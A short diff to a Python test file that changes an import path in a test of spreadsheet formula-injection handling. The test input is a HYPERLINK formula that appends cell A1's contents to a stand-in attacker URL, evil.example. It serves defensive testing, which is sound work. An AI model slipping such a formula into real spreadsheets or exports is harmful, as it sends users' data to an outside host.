@@ -77,7 +77,7 @@ def test_a_huge_cell_is_refused_with_its_field(lakeside_dir):
 def test_formula_injection_is_stored_exactly_and_exported_exactly(lakeside_dir, tmp_path):
     """The interchange stays exact (round trips); spreadsheet downloads neutralise (core/spreadsheet.py)."""
     from core.spreadsheet import spreadsheet_safe
-    from interchange.services import dataset_export_files
+    from interchange.export import dataset_export_files
 
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     files = lakeside_files(lakeside_dir)
